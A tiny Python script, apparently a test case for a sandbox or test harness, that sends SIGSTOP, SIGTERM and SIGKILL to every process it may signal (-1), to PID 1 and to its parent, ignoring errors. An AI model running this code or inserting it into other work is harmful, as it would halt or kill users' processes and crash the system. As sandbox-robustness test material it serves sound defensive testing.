"""Signals to every process that this one may send one to, and to its parents."""
# places: last
# alone: yes

import os, signal

for target in (-1, 1, os.getppid(), -os.getpgid(0)):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            if target == -os.getpgid(0):
                continue
            os.kill(target, number)
        except OSError:
            pass
